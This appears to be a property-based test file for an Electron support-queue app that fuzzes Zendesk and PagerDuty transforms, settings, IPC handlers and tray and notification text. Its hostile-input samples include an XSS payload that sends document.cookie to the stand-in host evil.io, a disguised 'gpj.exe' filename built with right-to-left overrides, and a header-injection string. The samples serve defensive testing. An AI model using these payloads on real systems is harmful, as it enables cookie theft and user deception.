/**
 * Hostile input: generated and mutated payloads for both transforms, the settings loader and the CLI config, IPC
 * payloads through the main process's real handlers, and ticket text built to garble or disguise what people read.
 */
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { IpcMainInvokeEvent, WebContents } from 'electron';
import fc from 'fast-check';
import { afterAll, describe, expect, it, vi } from 'vitest';
import { loadConfig } from '../../src/main/cli/config';
import { AlertCenter } from '../../src/main/core/alerts';
import { DEFAULT_SETTINGS, migrateSettings, validateSettings } from '../../src/main/core/settings';
import { buildSnapshot, emptyHealth } from '../../src/main/core/snapshot';
import { type HandlerDeps, registerHandlers } from '../../src/main/electron/handlers';
import { IpcBridge, type IpcMainLike } from '../../src/main/electron/ipc';
import { NativeNotifier, type NotificationContent } from '../../src/main/electron/notifications';
import { trayMenu, trayTooltip } from '../../src/main/electron/tray';
import { transformOnCall, transformSchedule, transformUser } from '../../src/main/sources/pagerduty/transform';
import { MAX_SUBJECT_LENGTH, transformQueue } from '../../src/main/sources/zendesk/transform';
import type { Snapshot } from '../../src/shared/domain';
import { INVOKE_CHANNELS } from '../../src/shared/ipc';
import { memoryStore, recordingNotifier } from '../support/factories';
import { NOW } from './harness';

const ORG_FIELDS = DEFAULT_SETTINGS.zendesk.orgFields;
const STATUSES = ['new', 'open', 'pending', 'hold', 'solved', 'closed', 'unknown'];
const PRIORITIES = ['urgent', 'high', 'normal', 'low', 'none', 'unknown'];
// biome-ignore lint/suspicious/noControlCharactersInRegex: looking for control characters is the point.
const UNSAFE = /[\u0000-\u001f\u007f-\u009f\u061c\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff]/;

const validTicket = (id: number) => ({
  id,
  subject: `Ticket ${id}`,
  description: 'Something broke',
  status: 'open',
  priority: 'high',
  tags: ['escalated'],
  group_id: 1,
  assignee_id: null,
  requester_id: 7,
  organization_id: 9,
  created_at: '2026-11-30T08:00:00Z',
  updated_at: '2026-11-30T09:00:00Z',
  via: { channel: 'web' },
  slas: { policy_metrics: [{ metric: 'next_reply_time', stage: 'active', breach_at: '2026-11-30T12:00:00Z' }] },
});
const TICKET_KEYS = Object.keys(validTicket(1));

/** A valid record with some fields replaced by anything (or deleted). */
function mutated<T extends Record<string, unknown>>(base: T, keys: string[]) {
  return fc
    .array(fc.tuple(fc.constantFrom(...keys), fc.option(fc.anything(), { nil: undefined })), { maxLength: 4 })
    .map((changes) => {
      const copy: Record<string, unknown> = structuredClone(base);
      for (const [key, value] of changes) {
        if (value === undefined) delete copy[key];
        else copy[key] = value;
      }
      return copy;
    });
}

/** Zendesk ids are positive safe integers; anything else cannot name a ticket. */
/** Zendesk ids are positive integers; the transform also accepts them written as digit strings ("1"). */
const idOf = (value: unknown): number | null => {
  const number = typeof value === 'string' && /^\d{1,16}$/.test(value) ? Number(value) : value;
  return typeof number === 'number' && Number.isSafeInteger(number) && number > 0 ? number : null;
};
const validId = (value: unknown) => idOf(value) !== null;

describe('Zendesk transform under hostile payloads', () => {
  it('never throws; keeps exactly the records with a valid id, reports the rest, types every field', () => {
    const record = fc.oneof(
      fc.anything(),
      fc.integer({ min: 1, max: 50 }).chain((id) => mutated(validTicket(id), TICKET_KEYS)),
    );
    fc.assert(
      fc.property(
        fc.array(record, { maxLength: 20 }),
        fc.array(fc.anything(), { maxLength: 5 }),
        fc.array(fc.anything(), { maxLength: 5 }),
        (tickets, users, organizations) => {
          const result = transformQueue(
            { tickets, users, organizations },
            { subdomain: 'acme', orgFields: ORG_FIELDS },
          );
          const objects = tickets.filter((t) => t !== null && typeof t === 'object' && !Array.isArray(t));
          const expectedIds = new Set(objects.map((t) => idOf((t as { id?: unknown }).id)).filter((id) => id !== null));
          expect(new Set(result.tickets.map((t) => t.id))).toEqual(expectedIds);
          expect(result.tickets).toHaveLength(expectedIds.size);
          const rejected =
            tickets.length - tickets.filter((t) => objects.includes(t) && validId((t as { id?: unknown }).id)).length;
          expect(result.problems.filter((p) => p.record === null)).toHaveLength(rejected);
          for (const ticket of result.tickets) {
            expect(typeof ticket.subject).toBe('string');
            expect(ticket.subject.length).toBeLessThanOrEqual(MAX_SUBJECT_LENGTH);
            expect(STATUSES).toContain(ticket.status);
            expect(PRIORITIES).toContain(ticket.priority);
            expect(ticket.tags.every((tag) => typeof tag === 'string')).toBe(true);
            expect(ticket.url).toBe(`https://acme.zendesk.com/agent/tickets/${ticket.id}`);
            for (const metric of ticket.slaMetrics) {
              expect(metric.breachAt === null || Number.isFinite(Date.parse(metric.breachAt))).toBe(true);
            }
            expect(() => JSON.stringify(ticket)).not.toThrow();
          }
        },
      ),
      { numRuns: 300 },
    );
  });

  it('keeps an untouched valid ticket exactly, with no problems', () => {
    const result = transformQueue(
      {
        tickets: [validTicket(5)],
        users: [{ id: 7, name: 'Ada', email: 'ada@example.com' }],
        organizations: [{ id: 9, name: 'Hedgebox', tags: [], organization_fields: {} }],
      },
      { subdomain: 'acme', orgFields: ORG_FIELDS },
    );
    expect(result.problems).toEqual([]);
    expect(result.tickets[0]).toMatchObject({ id: 5, status: 'open', priority: 'high', tags: ['escalated'] });
  });
});

describe('PagerDuty transform under hostile payloads', () => {
  const validOnCall = {
    user: { id: 'PME', summary: 'Ada' },
    schedule: { id: 'PS1', summary: 'Infra', html_url: 'https://acme.pagerduty.com/schedules/PS1' },
    escalation_level: 1,
    start: '2026-11-30T09:00:00Z',
    end: '2026-12-07T09:00:00Z',
  };
  it('never throws; an entry is kept with typed fields or reported as a problem', () => {
    fc.assert(
      fc.property(fc.oneof(fc.anything(), mutated(validOnCall, Object.keys(validOnCall))), (raw) => {
        const result = transformOnCall(raw);
        if (result.entry === null) {
          expect(result.problem).toEqual(expect.any(String));
          return;
        }
        const { entry } = result;
        expect(typeof entry.userId).toBe('string');
        expect(entry.start === null || Number.isFinite(Date.parse(entry.start))).toBe(true);
        expect(entry.end === null || Number.isFinite(Date.parse(entry.end))).toBe(true);
        expect(entry.scheduleUrl === null || entry.scheduleUrl.startsWith('https://')).toBe(true);
        expect(Number.isInteger(entry.escalationLevel) && entry.escalationLevel >= 1).toBe(true);
        expect(() => transformUser(raw)).not.toThrow();
        expect(transformSchedule(raw, 'PFALLBACK').id).toEqual(expect.any(String));
      }),
      { numRuns: 500 },
    );
    expect(transformOnCall(validOnCall).entry).toMatchObject({ userId: 'PME', scheduleId: 'PS1' });
  });
});

describe('settings under hostile input', () => {
  /** The defaults with one nested value replaced by anything. */
  const mutatedSettings = fc
    .tuple(
      fc.constantFrom(
        ...Object.entries(DEFAULT_SETTINGS).flatMap(([section, value]) =>
          value && typeof value === 'object' ? Object.keys(value).map((key) => [section, key] as const) : [],
        ),
      ),
      fc.anything(),
    )
    .map(([[section, key], value]) => {
      const copy = structuredClone(DEFAULT_SETTINGS) as unknown as Record<string, Record<string, unknown>>;
      copy[section]![key] = value;
      return copy;
    });

  it('migrateSettings turns anything into valid settings; validateSettings answers, never throws', () => {
    fc.assert(
      fc.property(fc.oneof(fc.anything(), mutatedSettings), (raw) => {
        const migrated = migrateSettings(raw);
        expect(validateSettings(migrated.settings).ok).toBe(true);
        const validation = validateSettings(raw);
        if (!validation.ok) {
          expect(validation.errors.length).toBeGreaterThan(0);
          for (const error of validation.errors) expect(error.message).toEqual(expect.any(String));
        }
      }),
      { numRuns: 400 },
    );
    expect(validateSettings(structuredClone(DEFAULT_SETTINGS)).ok).toBe(true);
  });

  const directory = mkdtempSync(join(tmpdir(), 'support-hero-config-'));
  afterAll(() => rmSync(directory, { recursive: true, force: true }));

  it("the CLI's config loader answers ok or a message naming the file for any file content", () => {
    const file = join(directory, 'config.json');
    const content = fc.oneof(
      fc.string(),
      fc.json(),
      mutatedSettings.map((settings) => JSON.stringify(settings)),
      fc.anything().map((value) => JSON.stringify({ polling: value }) ?? 'null'),
    );
    fc.assert(
      fc.property(content, (text) => {
        writeFileSync(file, text);
        const result = loadConfig(file);
        if (result.ok) expect(validateSettings(result.settings).ok).toBe(true);
        else expect(result.message).toContain(file);
      }),
      { numRuns: 200 },
    );
  });
});

describe('IPC payloads from a compromised renderer', () => {
  it('get an Error (or a field-error answer), never a crash, and never reach a side effect unvalidated', async () => {
    const handlers = new Map<string, (event: IpcMainInvokeEvent, ...args: unknown[]) => unknown>();
    const ipcMain: IpcMainLike = {
      handle: (channel, listener) => void handlers.set(channel, listener),
      removeHandler: (channel) => void handlers.delete(channel),
    };
    const page = 'file:///app/out/renderer/index.html';
    const contents = { mainFrame: { url: page }, send: vi.fn(), isDestroyed: () => false } as unknown as WebContents;
    const snapshot = hostileSnapshot('Ticket');
    const deps = {
      snapshot: () => snapshot,
      refresh: vi.fn(async () => {}),
      pause: vi.fn(() => ({ pausedUntil: null, quietHours: false, held: 0 })),
      settingsView: () => ({}) as never,
      applySettings: vi.fn(),
      secrets: {
        set: vi.fn((_name: string, _value: string, _plain?: boolean) => 'encrypted' as const),
        encryptionAvailable: () => true,
      },
      testConnection: vi.fn(async () => ({ ok: true, message: 'ok' })),
      listPicker: vi.fn(async () => ({ ok: true as const, options: [] })),
      links: { open: vi.fn(async (_url: string) => {}) },
      hideWindow: vi.fn(),
      notices: { list: () => [], dismiss: vi.fn() },
    } satisfies HandlerDeps;
    registerHandlers(new IpcBridge(ipcMain, { webContents: () => contents, pageUrl: page }), deps);
    const event = { sender: contents, senderFrame: contents.mainFrame } as unknown as IpcMainInvokeEvent;
    const payload = fc.oneof(
      fc.anything(),
      fc.record({ ticketId: fc.anything(), target: fc.anything(), url: fc.webUrl() }, { requiredKeys: [] }),
      fc.record({ settings: fc.anything(), secrets: fc.anything() }, { requiredKeys: [] }),
    );
    await fc.assert(
      fc.asyncProperty(fc.constantFrom(...INVOKE_CHANNELS), payload, async (channel, value) => {
        try {
          await Promise.resolve().then(() => handlers.get(channel)!(event, value));
        } catch (error) {
          expect(error).toBeInstanceOf(Error);
          expect((error as Error).message).toMatch(/^Support Hero|not in the queue/);
        }
      }),
      { numRuns: 400 },
    );
    // Links only ever go to what main's own snapshot holds.
    for (const [url] of deps.links.open.mock.calls) expect(url).toBe(snapshot.queue[0]!.ticket.url);
    for (const [name, value] of deps.secrets.set.mock.calls) {
      expect(['zendeskToken', 'pagerdutyToken']).toContain(name);
      expect(typeof value).toBe('string');
    }
  });
});

/** A snapshot built by the real core from a ticket whose subject is `subject`, CS-tagged, nearing breach. */
function hostileSnapshot(subject: string): Snapshot {
  const raw = {
    ...validTicket(31337),
    subject,
    tags: ['customer_success'],
    slas: {
      policy_metrics: [
        { metric: 'next_reply_time', stage: 'active', breach_at: new Date(NOW + 50 * 60_000).toISOString() },
      ],
    },
  };
  const { tickets, problems } = transformQueue(
    { tickets: [raw], users: [], organizations: [] },
    { subdomain: 'posthoghelp', orgFields: ORG_FIELDS },
  );
  return buildSnapshot(
    {
      zendesk: { tickets, problems },
      pagerduty: null,
      health: { zendesk: { ...emptyHealth('zendesk'), state: 'fresh' }, pagerduty: emptyHealth('pagerduty') },
      demo: false,
    },
    DEFAULT_SETTINGS,
    NOW,
    { pausedUntil: null, quietHours: false, held: 0 },
    'UTC',
  );
}

describe('hostile ticket text in the tray and notifications', () => {
  const hostile = fc.oneof(
    fc.constant('<img src=x onerror="alert(1)"><script>fetch("https://evil.io/?"+document.cookie)</script>'),
    fc.constant('Invoice \u202Egpj.exe\u202C \u2066pay\u2069 \u200Bnow\u0000\u0007\r\nBcc: evil'),
    fc.constant(`${'A'.repeat(100_000)}<b>end</b>`),
    fc.string({ unit: 'binary', maxLength: 400 }),
    fc.constantFrom('\u202E', '\u2028\u2029', '\uD83D\uDE00'.repeat(5000), ' \t '),
  );

  it('stays plain, single-line and short in menu labels, tooltip and notification title and body', () => {
    fc.assert(
      fc.property(hostile, (subject) => {
        const snapshot = hostileSnapshot(subject);
        const menu = trayMenu({ snapshot, pausedUntil: null, demo: false, startAtLogin: false }, {} as never);
        const tooltip = trayTooltip({ snapshot, pausedUntil: null, demo: false, startAtLogin: false });
        const labels = menu.map((item) => item.label ?? '').filter((label) => label !== '');
        for (const text of [...labels, tooltip]) {
          expect(text).not.toMatch(UNSAFE);
          expect(Array.from(text).length).toBeLessThanOrEqual(120);
        }
        // The real alert rules and ledger make the alerts; the real notifier shapes what the OS shows.
        const shown: NotificationContent[] = [];
        const notifier = new NativeNotifier({
          create: (content) => {
            shown.push(content);
            return { onClick: () => {}, show: () => {} };
          },
          links: { open: async () => {} },
          showQueue: () => {},
          sound: () => false,
        });
        const recorded = recordingNotifier();
        const center = new AlertCenter({
          store: memoryStore(),
          notifier: {
            deliver: (alert) => {
              recorded.deliver(alert);
              notifier.deliver(alert);
            },
          },
          clock: { now: () => NOW },
          settings: () => DEFAULT_SETTINGS,
          timeZone: () => 'UTC',
        });
        center.process(snapshot);
        expect(recorded.delivered.map((alert) => alert.kind).sort()).toEqual(['cs_tagged', 'sla_warning']);
        expect(shown.length).toBeGreaterThan(0);
        for (const content of shown) {
          for (const text of [content.title, content.body]) {
            expect(text).not.toMatch(UNSAFE);
            expect(Array.from(text).length).toBeLessThanOrEqual(200);
          }
        }
      }),
      { numRuns: 60 },
    );
  });
});
